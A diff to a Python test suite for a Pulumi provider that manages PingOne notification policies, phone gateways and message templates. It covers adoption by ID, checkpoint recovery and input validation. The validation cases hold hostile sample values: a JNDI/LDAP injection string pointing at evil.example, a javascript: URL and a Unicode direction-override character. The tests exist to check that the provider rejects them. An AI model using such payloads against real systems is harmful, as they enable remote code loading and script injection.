@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 from collections.abc import Iterator
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -183,6 +184,26 @@ def test_policy_minimal_and_default_policy_adoption(h: Harness) -> None:
     assert [p["id"] for p in h.live("policy")] == [default["id"]], "the default policy is left in place"
     assert any("default notification policy" in line for line in h.stack.output)
 
+    # README "Adopting existing objects": adopt= an ID; and `default=True` makes the policy the environment's
+    # default (PingOne keeps one: the previous default is no longer it, seed 002)
+    legacy = h.api.create(h.path("/notificationsPolicies"), {"name": "Legacy", "quotas": []}, lookup=lambda: None)
+    h.declare(
+        {
+            "type": "NotificationPolicy",
+            "name": "promoted",
+            "args": {"name": "Promoted", "adopt": legacy["id"], "default": True},
+        }
+    )
+    up = h.stack.up()
+    assert changes(up.summary.resource_changes) == {"create": 1}
+    assert up.outputs["promoted"].value == legacy["id"], "adopted by its ID, not created"
+    live = {p["id"]: p for p in h.live("policy")}
+    assert len(live) == 2
+    assert (live[legacy["id"]]["name"], live[legacy["id"]]["default"]) == ("Promoted", True)
+    assert live[default["id"]]["default"] is False
+    with h.no_writes():
+        assert changes(h.stack.preview().change_summary) == {}
+
 
 def test_phone_delivery_settings_life_cycle(h: Harness) -> None:
     h.declare(gateway())
@@ -240,10 +261,44 @@ def test_phone_settings_adoption_by_name(h: Harness) -> None:
     }
     existing = h.api.create(h.path("/notificationsSettings/phoneDeliverySettings"), body, lookup=lambda: None)
     h.declare(gateway("Legacy gateway", adopt=True))
+    # README "Adopting existing objects": by ID (here a provider whose name the program changes), and a Twilio
+    # account by its sid
+    by_id = h.api.create(h.path("/notificationsSettings/phoneDeliverySettings"), {**body, "name": "Old name"},
+                         lookup=lambda: None)  # fmt: skip
+    h.emulator.add_provider_account("CUSTOM_TWILIO", "twilio-adopt", sid="AC5D1A0B")
+    twilio = h.api.create(h.path("/notificationsSettings/phoneDeliverySettings"),
+                          {"provider": "CUSTOM_TWILIO", "sid": "AC5D1A0B", "authToken": "twilio-adopt"},
+                          lookup=lambda: None)  # fmt: skip
+    h.declare(
+        gateway("Legacy gateway", adopt=True),
+        gateway("New name", adopt=by_id["id"]),
+        {"type": "PhoneDeliverySettings", "name": "twilio",
+         "args": {"provider": "CUSTOM_TWILIO", "sid": "AC5D1A0B", "auth_token": "twilio-adopt", "adopt": True}},
+    )  # fmt: skip
     up = h.stack.up()
+    assert changes(up.summary.resource_changes) == {"create": 3}
     assert up.outputs["legacy gateway"].value == existing["id"]
-    [live] = h.live("phone")
-    assert live["authentication"] == {"method": "BASIC", "username": "pingone", "password": "pw-1"}
+    assert up.outputs["new name"].value == by_id["id"]
+    assert up.outputs["twilio"].value == twilio["id"]
+    live = {p["id"]: p for p in h.live("phone")}
+    assert len(live) == 3, "all three adopted, none created"
+    assert live[existing["id"]]["authentication"] == {"method": "BASIC", "username": "pingone", "password": "pw-1"}
+    assert live[by_id["id"]]["name"] == "New name"
+    with h.no_writes():
+        assert changes(h.stack.preview().change_summary) == {}
+
+    # README "Interrupted runs": a checkpoint cut off while being written ("failed to load checkpoint") is put
+    # back from the `.bak` the file backend keeps beside it; then `up` converges (nothing duplicated)
+    backend = Path(h.stack.stack.workspace.env_vars["PULUMI_BACKEND_URL"].removeprefix("file://"))
+    [checkpoint] = (backend / ".pulumi" / "stacks").glob("*/test.json")
+    assert checkpoint.with_name("test.json.bak").exists()
+    checkpoint.write_text(checkpoint.read_text()[:200])
+    with pytest.raises(auto.CommandError, match="checkpoint"):
+        h.stack.preview()
+    assert h.stack.recover()[0] == "restored test.json from test.json.bak"
+    h.stack.up()
+    in_state = sorted(r["id"] for r in h.stack.export()["resources"] if r["type"].endswith("PhoneDeliverySettings"))
+    assert in_state == sorted(p["id"] for p in h.live("phone")) == sorted(live)
     with h.no_writes():
         assert changes(h.stack.preview().change_summary) == {}
 
@@ -326,6 +381,7 @@ def test_template_content_adoption_and_identical_leftovers(h: Harness) -> None:
     leftover = h.api.create(
         path, {"locale": "de", "deliveryMethod": "SMS", "content": "Hallo", "sender": ""}, lookup=lambda: None
     )
+    by_id = h.api.create(path, {"locale": "fr", "deliveryMethod": "SMS", "content": "Ancien"}, lookup=lambda: None)
     h.declare(
         {
             "type": "NotificationTemplateContent",
@@ -343,11 +399,23 @@ def test_template_content_adoption_and_identical_leftovers(h: Harness) -> None:
             "name": "leftover",
             "args": {"template_name": "general", "locale": "de", "delivery_method": "SMS", "content": "Hallo"},
         },
+        {
+            "type": "NotificationTemplateContent",
+            "name": "by-id",  # README "Adopting existing objects": adopt= the content's ID
+            "args": {
+                "template_name": "general",
+                "locale": "fr",
+                "delivery_method": "SMS",
+                "content": "Nouveau",
+                "adopt": by_id["id"],
+            },
+        },
     )
     up = h.stack.up()
     assert up.outputs["adopted"].value == stale["id"]
     assert up.outputs["leftover"].value == leftover["id"], "an identical leftover is taken over, not duplicated"
-    assert sorted(c["content"] for c in h.custom_contents()) == ["Hallo", "New"]
+    assert up.outputs["by-id"].value == by_id["id"]
+    assert sorted(c["content"] for c in h.custom_contents()) == ["Hallo", "New", "Nouveau"]
 
 
 def test_conflict_with_a_different_existing_object_explains_adopt(h: Harness) -> None:
@@ -403,147 +471,100 @@ def test_notifications_settings_life_cycle(h: Harness) -> None:
     assert (reset["deliveryMode"], reset["whitelist"], reset["smsProvidersFallbackChain"]) == ("ALL", [], [])
 
 
+def content(name: str, **args: Any) -> dict[str, Any]:
+    return {"type": "NotificationTemplateContent", "name": name,
+            "args": {"template_name": "general", "locale": "en", "delivery_method": "SMS", **args}}  # fmt: skip
+
+
+# Bad input, by preview: (what the program declares, [(resource name, property, words), ...]). The engine stops a
+# preview at the first resource whose check fails (`GenerateSteps` bails on an invalid resource, pkg/resource/
+# deploy/step_generator.go, v3.259.0), so one preview judges one resource: the cases of one resource that its check
+# reports together share a preview (a resource reports every bad property at once).
 BAD_INPUTS = [
     pytest.param(
-        {"type": "NotificationPolicy", "name": "p", "args": {"name": "P", "quotas": [{"type": "USER", "total": 60}]}},
-        "quotas[0]",
-        "at most 50",
-        id="policy-user-quota",
+        [{"type": "NotificationPolicy", "name": "p", "args": {
+            "name": "N" * 300,
+            "quotas": [{"type": "USER", "total": 60}, {"type": "ENVIRONMENT", "totl": 3}],
+            "country_limit": {"type": "ALLOWED", "countries": ["XX"]}}}],
+        [("p", "quotas[0]", "at most 50"), ("p", "country_limit.countries[0]", "ISO 3166"),
+         ("p", "quotas[1].totl", "did you mean 'total'"), ("p", "name", "at most 256 characters")],
+        id="policy-user-quota,country,nested-typo,oversized-name",
     ),
     pytest.param(
-        {
-            "type": "NotificationPolicy",
-            "name": "p",
-            "args": {"name": "P", "country_limit": {"type": "ALLOWED", "countries": ["XX"]}},
-        },
-        "country_limit.countries[0]",
-        "ISO 3166",
-        id="policy-country",
+        [{"type": "PhoneDeliverySettings", "name": "g", "args": {
+            "provider": "CUSTOM_PROVIDER", "name": "G", "authentication": {"method": "OAUTH2", "client_id": "x"},
+            "requests": [{"delivery_method": "SMS", "method": "POST", "url": "javascript:alert(1)"}]}}],
+        [("g", "authentication", "needs auth_url, client_secret"), ("g", "requests[0]", "is not an https:// URL")],
+        id="phone-oauth,hostile-url",
     ),
     pytest.param(
-        {"type": "NotificationPolicy", "name": "p", "args": {"name": "P", "quotas": [{"type": "USER", "totl": 3}]}},
-        "quotas[0].totl",
-        "did you mean 'total'",
-        id="policy-nested-typo",
-    ),
-    pytest.param(
-        {
-            "type": "NotificationTemplateContent",
-            "name": "c",
-            "args": {
-                "template_name": "strong_authentication",
-                "locale": "en",
-                "delivery_method": "SMS",
-                "content": "Hello ${greeting}",
-            },
-        },
-        "content",
-        "${greeting}",
-        id="content-variable",
-    ),
-    pytest.param(
-        {
-            "type": "NotificationTemplateContent",
-            "name": "c",
-            "args": {"template_name": "general", "locale": "en", "delivery_method": "SMS", "content": "ж" * 68},
-        },
-        "content",
-        "UCS-2",
-        id="content-sms-length",
-    ),
-    pytest.param(
-        {
-            "type": "NotificationTemplateContent",
-            "name": "c",
-            "args": {
-                "template_name": "general",
-                "locale": "en",
-                "delivery_method": "SMS",
-                "content": "Hi",
-                "sender": "Acme Corporation",
-            },
-        },
-        "sender",
-        "11",
-        id="content-sender",
-    ),
-    pytest.param(
-        {
-            "type": "NotificationTemplateContent",
-            "name": "c",
-            "args": {"template_name": "general", "locale": "en-XX", "delivery_method": "SMS", "content": "Hi"},
-        },
-        "locale",
-        "not a valid locale",
-        id="content-locale",
-    ),
-    pytest.param(
-        {
-            "type": "NotificationTemplateContent",
-            "name": "c",
-            "args": {
-                "template_name": "email_verification_user",
-                "locale": "en",
-                "delivery_method": "SMS",
-                "content": "${code}",
-            },
-        },
-        "delivery_method",
-        "does not support SMS",
-        id="content-method",
-    ),
-    pytest.param(
-        {
-            "type": "PhoneDeliverySettings",
-            "name": "g",
-            "args": {
-                "provider": "CUSTOM_PROVIDER",
-                "name": "G",
-                "authentication": {"method": "OAUTH2", "client_id": "x"},
-                "requests": [],
-            },
-        },
-        "authentication",
-        "needs auth_url, client_secret",
-        id="phone-oauth",
-    ),
-    pytest.param(
-        {"type": "NotificationsSettings", "name": "s", "args": {"restrictions": {"sms_voice_quota": {"daily": 99}}}},
-        "restrictions.sms_voice_quota.daily",
-        "50",
+        [{"type": "NotificationsSettings", "name": "s", "args": {"restrictions": {"sms_voice_quota": {"daily": 99}}}}],
+        [("s", "restrictions.sms_voice_quota.daily", "50")],
         id="settings-quota",
     ),
+    pytest.param(
+        [content("c", locale="en-XX", content="Hi", sender="Acme Corporation")],
+        [("c", "locale", "not a valid locale"), ("c", "sender", "at most 11")],
+        id="content-locale,sender",
+    ),
+    pytest.param(
+        [content("c", template_name="verification_code_template", content="Hello ${greeting}")],
+        [("c", "content", "does not allow ${greeting}")],
+        id="content-variable",
+    ),
+    pytest.param([content("c", content="ж" * 68)], [("c", "content", "UCS-2")], id="content-sms-length"),
+    pytest.param(
+        [content("c", template_name="email_verification_user", content="${code}")],
+        [("c", "delivery_method", "does not support SMS")],
+        id="content-method",
+    ),
     # hostile and oversized values
-    pytest.param({"type": "NotificationTemplateContent", "name": "c", "args": {
-        "template_name": "strong_authentication", "locale": "en", "delivery_method": "SMS",
-        "content": "${otp} ${jndi:ldap://evil.example/a}"}}, "",
-        "${jndi:ldap://evil.example/a} is not a variable name", id="hostile-variable"),
-    pytest.param({"type": "PhoneDeliverySettings", "name": "g", "args": {
-        "provider": "CUSTOM_PROVIDER", "name": "G", "authentication": {"method": "BEARER", "auth_token": "t"},
-        "requests": [{"delivery_method": "SMS", "method": "POST", "url": "javascript:alert(1)"}]}},
-        "requests[0]", "is not an https:// URL", id="hostile-url"),
-    pytest.param({"type": "NotificationTemplateContent", "name": "c", "args": {
-        "template_name": "general", "locale": "en", "delivery_method": "Email", "subject": "s",
-        "body": "x" * 102_401}}, "", "at most 100 KB", id="oversized-body"),
-    pytest.param({"type": "NotificationTemplateContent", "name": "c", "args": {
-        "template_name": "general", "locale": "en", "delivery_method": "SMS", "content": "Hi",
-        "sender": "Acme\u202e"}}, "sender", "letters, digits and spaces", id="unicode-sender"),
-    pytest.param({"type": "NotificationPolicy", "name": "p", "args": {"name": "N" * 300}}, "name",
-                 "at most 256 characters", id="oversized-name"),
+    pytest.param(
+        [content("c", template_name="strong_authentication", content="${otp} ${jndi:ldap://evil.example/a}")],
+        [("c", "content", "${jndi:ldap://evil.example/a} is not a variable name")],
+        id="hostile-variable",
+    ),
+    pytest.param(
+        [content("c", delivery_method="Email", subject="s", body="x" * 102_401)],
+        [("c", "body", "at most 100 KB")],
+        id="oversized-body",
+    ),
+    pytest.param(
+        [content("c", content="Hi", sender="Acme\u202e")],
+        [("c", "sender", "letters, digits and spaces")],
+        id="unicode-sender",
+    ),
 ]  # fmt: skip
 
 
-@pytest.mark.parametrize(("resource", "prop", "words"), BAD_INPUTS)
-def test_bad_input_is_rejected_at_preview_without_writes(
-    h: Harness, resource: dict[str, Any], prop: str, words: str
-) -> None:
-    h.declare(resource)
+@pytest.fixture(scope="module")
+def checker(pulumi_cli: object, emulator: EmulatorProcess) -> Iterator[Harness]:
+    """One stack for every preview that must fail at check: nothing is ever created in it, so it needs neither
+    the empty `up` first nor a `destroy` after (each preview asserts that it wrote nothing)."""
+    with harness(emulator, previews_only=True) as running:
+        yield running
+
+
+def refused_at_preview(h: Harness, *resources: dict[str, Any]) -> str:
+    """Preview ``resources``: it must fail without a write, a traceback or a step; its output."""
+    h.declare(*resources)
     with h.no_writes(), pytest.raises(auto.CommandError) as err:
         h.stack.preview()
     text = str(err.value)
-    assert f"{prop}: " in text, text[-2000:]
-    assert words in text
     assert "Traceback" not in text
+    return text
+
+
+@pytest.mark.parametrize(("resources", "expected"), BAD_INPUTS)
+def test_bad_input_is_rejected_at_preview_without_writes(
+    checker: Harness, resources: list[dict[str, Any]], expected: list[tuple[str, str, str]]
+) -> None:
+    text = refused_at_preview(checker, *resources)
+    for name, prop, words in expected:
+        # the error names the resource, then the property and what is wrong with it
+        problems = [line.split(" has a problem: ", 1)[1] for line in text.splitlines()
+                    if f"resource '{name}'" in line and " has a problem: " in line]  # fmt: skip
+        assert [p for p in problems if p.startswith(f"{prop}: ") and words in p], f"{name} {prop} {words}:\n{text}"
 
 
 def _strip(obj: dict[str, Any]) -> dict[str, Any]:
@@ -565,15 +586,14 @@ def _strip(obj: dict[str, Any]) -> dict[str, Any]:
         ),
     ],
 )  # fmt: skip
-def test_two_resources_for_one_pingone_object_are_refused_at_preview(h: Harness, pair: list[dict[str, Any]]) -> None:
+def test_two_resources_for_one_pingone_object_are_refused_at_preview(
+    checker: Harness, pair: list[dict[str, Any]]
+) -> None:
     # Issue 16 item 12: with the same natural key (seed 001: one custom content per template, delivery method,
     # locale and variant, the locale case-insensitive; seed 003: one settings object per environment) and
     # identical content, both resources would silently manage one PingOne object, and destroying one would
     # delete the other's. The preview fails and names both; nothing is written.
-    h.declare(*pair)
-    with h.no_writes(), pytest.raises(auto.CommandError) as err:
-        h.stack.preview()
-    text = str(err.value)
+    text = refused_at_preview(checker, *pair)
     first, second = (f"{r['type']} {r['name']!r}" for r in pair)
     assert "declare the same PingOne object" in text, text[-3000:]
     assert first in text
